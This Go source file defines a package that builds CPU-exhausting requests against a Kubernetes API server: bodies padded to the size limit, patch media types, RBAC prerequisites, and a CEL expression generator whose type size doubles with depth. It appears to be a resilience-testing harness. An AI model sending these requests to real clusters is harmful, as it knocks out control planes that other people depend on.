// Package bodies builds requests that attack a control plane's processor time. Their bodies are
// within Kubernetes' size limits, but processing them costs a naive server far more than reading
// them.
//
//	for _, a := range bodies.All(1) {
//		for _, r := range a.Setup { send(r) }
//		send(a.Request)
//	}
//
// It depends on no Kubernetes package, so that the same requests can be sent to any server. The
// functions are safe for concurrent use.
package bodies

import (
	"fmt"
	"strings"
)

// The media types of the bodies.
const (
	JSON      = "application/json"
	YAML      = "application/yaml"
	JSONPatch = "application/json-patch+json"
	Merge     = "application/merge-patch+json"
	Strategic = "application/strategic-merge-patch+json"
	Apply     = "application/apply-patch+yaml"
)

// Request is a request to send.
type Request struct {
	Method, Path, Media, Body string
}

// Attack is a request that costs much, with the requests that prepare it.
type Attack struct {
	Name string
	// Admin makes an administrator send the preparing requests. The attack itself needs only the
	// role edit in the namespace default, or admin if the name begins with "rbac".
	Admin   bool
	Setup   []Request
	Request Request
}

// limit is the size of the largest body that kube-apiserver reads, minus room for what surrounds
// the repeated part.
const limit = 3<<20 - 4096

const namespace = "/api/v1/namespaces/default/"

// List returns a JSON list with n copies of an element. %d in the element is replaced by the index.
func List(n int, element string) string { return "[" + Elements(0, n, element) + "]" }

// Elements returns the elements from index a up to b, separated by commas.
func Elements(a, b int, element string) string {
	var out strings.Builder
	indexed := strings.Contains(element, "%d")
	for i := a; i < b; i++ {
		if i > a {
			out.WriteByte(',')
		}
		if indexed {
			fmt.Fprintf(&out, element, i)
		} else {
			out.WriteString(element)
		}
	}
	return out.String()
}

// Fill returns as many elements as fit into size bytes.
func Fill(size int, element string) string {
	each := len(element) + 1
	if strings.Contains(element, "%d") {
		each += 4 // most indexes have six digits
	}
	return Elements(0, size/each, element)
}

// Object returns an object of a kind with additional members.
func Object(apiVersion, kind, name, members string) string {
	if members != "" {
		members = "," + members
	}
	return fmt.Sprintf(`{"apiVersion":%q,"kind":%q,"metadata":{"name":%q}%s}`, apiVersion, kind, name, members)
}

func create(path, body string) Request { return Request{"POST", path, JSON, body} }

func patch(path, media, body string) Request { return Request{"PATCH", path, media, body} }

// All returns every attack. scale is the size of the bodies, as a fraction of the maximum.
func All(scale float64) []Attack {
	s := scaled(scale)
	var all []Attack
	for _, group := range [][]Attack{s.strategic(), s.jsonPatches(), s.owners(), s.wide(), s.reviews(), s.custom()} {
		all = append(all, group...)
	}
	return all
}

// scaled builds the attacks of a size.
type scaled float64

// n scales a number of elements.
func (s scaled) n(full int) int { return max(1, int(float64(full)*float64(s))) }

// size returns the size of a body.
func (s scaled) size() int { return s.n(limit) }

// LargeType returns a CEL expression in which the size of a type doubles depth times.
func LargeType(depth int) string {
	e := "true"
	for i := depth - 1; i >= 0; i-- {
		source := "{1:1}"
		if i > 0 {
			source = fmt.Sprintf("{x%d:x%[1]d}", i-1)
		}
		e = fmt.Sprintf("[%s].all(x%d, %s)", source, i, e)
	}
	return e
}
